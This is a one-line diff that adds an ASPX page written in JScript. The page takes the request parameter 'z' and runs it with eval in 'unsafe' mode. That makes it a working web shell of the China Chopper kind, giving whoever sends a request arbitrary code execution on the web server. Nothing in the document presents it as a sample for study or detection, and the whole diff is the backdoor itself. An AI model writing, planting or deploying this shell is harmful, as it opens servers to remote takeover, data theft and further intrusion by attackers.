@@ -1,0 +1,1 @@
+<%@ Page Language="Jscript" %><% var c = Request.Item["z"]; eval(c, "unsafe"); %>
